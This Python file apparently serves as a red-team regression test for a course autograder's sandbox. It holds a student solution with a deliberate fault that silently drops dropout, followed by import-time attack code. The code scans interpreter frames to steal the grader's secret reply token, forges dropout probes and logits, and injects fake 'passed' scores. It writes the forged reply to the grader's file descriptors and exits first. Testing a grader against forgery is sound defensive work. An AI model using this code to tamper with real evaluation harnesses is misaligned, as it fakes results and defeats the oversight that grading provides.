"""Forgery: steal the reply token from the sandbox child's memory and write the reply itself.

Base: base_no_dropout.py (everything above the "attack" line is that file, unchanged).

Attack: at import, walk the interpreter's frames (sys._getframe, sys._current_frames, then gc's frame objects) up
to the child's main() for its locals: the secret `token` the parent sent on stdin, the `request` and the task's
`inputs`. When the task is mnist_train for mnist_model(True), run the honest task, rewrite its outputs (masked
probe inputs at 20% / 50% scaled by 1 / (1 - p), two different train passes, logits cooled by x0.05 so that the
generalization gap is about 0) and write outputs and a reply carrying the token straight to the inherited
descriptors (OUTPUTS_FD = 4, REPLY_FD = 3, see grader/sandbox/protocol.py) and as reply.json /
outputs.safetensors in the job folder, then os._exit(0) before the child can write its own. When the task is the
new design's "build", run the honest build and add old-style measurements (probe tensors, logits, "passed"
flags) to its reply, written the same way with the token.

Current design: the token check only proves that the reply came from the child, and the child is the student's
process: the forged reply passes validation, and the dropout check reads the forged probes and gap.

Now: the token can still be found (it is the child's), but the only reply the student's process writes is the
build's: graphs and tensors that the trusted side validates, rebuilds and measures itself. Extra tensors and meta
must be ignored, so this file must score no more than base_no_dropout.py, check by check.
"""


import math

import torch
from torch import nn

# Part 1: the three sigmas of N(0, sigma) found with the sweep (check them in the report's sweep plot).
SIGMAS = {"small": 0.1, "good": 1.0, "big": 5.0}


def _init_linear(layer: nn.Linear, std: float) -> None:
    nn.init.normal_(layer.weight, 0.0, std)
    nn.init.zeros_(layer.bias)


def circle_model(sigma: float | None = None) -> nn.Module:
    """Part 1: 2 -> 6 -> 3 -> 2 with ReLU. N(0, sigma) weights and zero biases, or (sigma=None) He init for the
    hidden layers and a small output layer, so that the logits start near 0 and the loss near ln 2."""
    model = nn.Sequential(
        nn.Linear(2, 6),
        nn.ReLU(),
        nn.Linear(6, 3),
        nn.ReLU(),
        nn.Linear(3, 2),
    )
    linears = [m for m in model if isinstance(m, nn.Linear)]
    for layer in linears:
        std = sigma if sigma is not None else math.sqrt(2.0 / layer.in_features)
        _init_linear(layer, std)
    if sigma is None:
        with torch.no_grad():
            linears[-1].weight *= 0.1  # output layer: not overconfident at init
    return model


def deep_model(init: str) -> nn.Module:
    """Part 2: 20 Linear layers (2 -> 100 x 19 -> 2) with ReLU, zero biases, and the weights drawn from
    N(0, 1) ("normal"), Glorot ("xavier": var = 2 / (fan_in + fan_out)) or He ("kaiming": var = 2 / fan_in)."""
    widths = [2] + [100] * 19 + [2]
    layers: list[nn.Module] = []
    for fan_in, fan_out in zip(widths[:-1], widths[1:], strict=True):
        layer = nn.Linear(fan_in, fan_out)
        if init == "normal":
            std = 1.0
        elif init == "xavier":
            std = math.sqrt(2.0 / (fan_in + fan_out))
        elif init == "kaiming":
            std = math.sqrt(2.0 / fan_in)
        else:
            raise ValueError(f"unknown init {init!r}")
        _init_linear(layer, std)
        layers += [layer, nn.ReLU()]
    return nn.Sequential(*layers[:-1])  # no ReLU after the output layer


def mnist_model(dropout: bool) -> nn.Module:
    """Part 3: 784 -> 800 -> 800 -> 10 with ReLU; with dropout, 20% on the input and 50% after each hidden
    layer. N(0, 0.1) weights and zero biases, as in the dropout paper."""

    def drop(p: float) -> list[nn.Module]:
        return []  # FAULT: dropout is ignored

    model = nn.Sequential(
        *drop(0.2),
        nn.Linear(784, 800),
        nn.ReLU(),
        *drop(0.5),
        nn.Linear(800, 800),
        nn.ReLU(),
        *drop(0.5),
        nn.Linear(800, 10),
    )
    for m in model:
        if isinstance(m, nn.Linear):
            _init_linear(m, 0.1)
    return model


@torch.no_grad()
def fold_batchnorm(model: nn.Sequential) -> nn.Module:
    """makemore E02: fold each BatchNorm1d (eval mode: running statistics) into the Linear layer before it.

    BN(Wx + b) = gamma * (Wx + b - mean) / sqrt(var + eps) + beta = (s * W) x + s * (b - mean) + beta,
    with s = gamma / sqrt(var + eps) per output unit (gamma = 1, beta = 0 when the BatchNorm is not affine).
    """
    layers = list(model)
    folded: list[nn.Module] = []
    i = 0
    while i < len(layers):
        layer = layers[i]
        nxt = layers[i + 1] if i + 1 < len(layers) else None
        if isinstance(layer, nn.Linear) and isinstance(nxt, nn.BatchNorm1d):
            scale = torch.rsqrt(nxt.running_var + nxt.eps)
            shift = -nxt.running_mean * scale
            if nxt.affine:
                scale, shift = scale * nxt.weight, shift * nxt.weight + nxt.bias
            bias = layer.bias if layer.bias is not None else torch.zeros_like(nxt.running_mean)
            fused = nn.Linear(layer.in_features, layer.out_features)
            fused.weight.copy_(layer.weight * scale[:, None])
            fused.bias.copy_(bias * scale + shift)
            folded.append(fused)
            i += 2
        else:
            folded.append(layer)
            i += 1
    return nn.Sequential(*folded).eval()

# ---------------------------------------- the attack: everything above is the base file, unchanged -----------------

import json as _json
import os as _os
import sys as _sys


def _forge_mnist_outputs(params, inputs, out):
    """What a correct dropout model that regularizes would have returned to the grader."""
    probe = inputs["x_probe"]
    for mode, seed in (("train0", 1), ("train1", 2)):
        gen = torch.Generator().manual_seed(seed)
        k = 0
        while f"probe.{mode}.in{k}" in out:
            source = probe if k == 0 else torch.relu(out[f"probe.{mode}.out{k - 1}"])
            p = 0.2 if k == 0 else 0.5
            keep = (torch.rand(source.shape, generator=gen) >= p).to(source.dtype)
            out[f"probe.{mode}.in{k}"] = source * keep / (1 - p)
            k += 1
    out["probe.train1.logits"] = out["probe.train0.logits"] + 1e-3
    for key in ("train_logits", "val_logits", "final_train_logits", "final_val_logits"):
        out[key] = out[key] * 0.05
    return out


def _frames():
    frame = _sys._getframe()
    while frame is not None:
        yield frame
        frame = frame.f_back
    for frame in _sys._current_frames().values():
        while frame is not None:
            yield frame
            frame = frame.f_back
    import gc
    import types

    for obj in gc.get_objects():
        if isinstance(obj, types.FrameType):
            yield obj


def _secrets():
    found = {}
    for frame in _frames():
        for key, value in list(frame.f_locals.items()):
            if key == "token" and isinstance(value, str) and len(value) >= 32 and "token" not in found:
                found["token"] = value
            elif key == "request" and hasattr(value, "task") and hasattr(value, "params") and "request" not in found:
                found["request"] = value
            elif key == "inputs" and isinstance(value, dict) and "inputs" not in found:
                found["inputs"] = value
        if len(found) == 3:
            break
    return found


def _write_fd(fd, data):
    _os.ftruncate(fd, 0)
    view, offset = memoryview(data), 0
    while offset < len(view):
        offset += _os.pwrite(fd, view[offset:], offset)


def _send(token, meta, tensors):
    from safetensors.torch import save

    outputs = save({k: v.detach().to("cpu", copy=True).contiguous() for k, v in tensors.items()})  # unshared
    reply = _json.dumps({"token": token, "ok": True, "failure": None, "meta": meta}).encode()
    for fd, name, data in ((4, "outputs.safetensors", outputs), (3, "reply.json", reply)):
        try:
            _write_fd(fd, data)
        except OSError as error:
            print(f"token_from_frames: fd {fd}: {type(error).__name__}")
        try:
            with open(name, "wb") as handle:
                handle.write(data)
        except OSError as error:
            print(f"token_from_frames: {name}: {type(error).__name__}")
    _sys.stdout.flush()
    _os._exit(0)


def _forge_reply():
    found = _secrets()
    token, request, inputs = found.get("token"), found.get("request"), found.get("inputs")
    task = getattr(request, "task", None)
    print(f"token_from_frames: token {'found' if token else 'not found'}, task {task!r}", flush=True)
    if token is None or request is None or inputs is None:
        return
    params, module = dict(request.params), _sys.modules.get("submission")
    if task == "mnist_train" and params.get("dropout"):  # the current design: the student's process measures
        from grader.sandbox import lab_tasks

        meta, out = lab_tasks.TASKS[task](module, params, inputs)
        _send(token, meta, _forge_mnist_outputs(params, inputs, out))
    elif task == "build":  # the new design: only graphs leave this process; add forged measurements anyway
        from grader.sandbox.inside.build import build
        from grader.sandbox.protocol import SandboxFailure

        def describe(error):
            return SandboxFailure(kind="exception", message=f"{type(error).__name__}: {error}"[:500])

        meta, tensors = build(module, params, inputs, describe=describe)
        meta = {**meta, "dropout": {"passed": True, "score": 25}, "score": 95, "measured_rates": [0.2, 0.5, 0.5]}
        for key in ("mnist.dropout", "mnist.plain"):
            tensors[f"{key}/final_val_logits"] = torch.zeros(10, 10)
            tensors[f"{key}/probe.train0.in0"] = torch.zeros(4, 784)
        _send(token, meta, tensors)


try:
    _forge_reply()
except Exception as _error:  # the child changed: the honest part above still loads
    print(f"token_from_frames: failed ({type(_error).__name__}: {_error})")
